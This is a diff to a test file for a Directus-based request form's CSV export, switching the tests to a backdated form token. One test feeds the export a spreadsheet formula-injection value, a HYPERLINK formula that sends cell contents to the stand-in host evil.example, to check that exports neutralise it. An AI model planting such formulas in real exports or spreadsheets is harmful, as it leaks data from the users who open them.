@@ -4,12 +4,12 @@
 import { randomUUID } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import { fetchAs } from './demo-users';
-import { fetchDefinition, matureFormToken, postForm, validRequest } from './request-form-client';
+import { backdatedFormToken, postForm, validRequest } from './request-form-client';
 
 describe('request export to CSV', () => {
   it("gives staff a CSV file of the requests they ask for, with Directus' own export", async () => {
     const company = `Export Test ${randomUUID().slice(0, 8)}`;
-    const token = await matureFormToken(await fetchDefinition());
+    const token = backdatedFormToken();
     const response = await postForm('submit', validRequest(token, { company, first_name: 'Ada, "the first"' }), {
       key: randomUUID(),
     });
@@ -40,7 +40,7 @@ describe('request export to CSV', () => {
   it('exports no live spreadsheet formula, in either CSV format, and phone numbers as typed', async () => {
     const company = `@SUM(1+1) ${randomUUID().slice(0, 8)}`;
     const lastName = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-    const token = await matureFormToken(await fetchDefinition());
+    const token = backdatedFormToken();
     const response = await postForm(
       'submit',
       validRequest(token, { company, last_name: lastName, title: '+1-1', phone: '+1 503 555 0148' }),
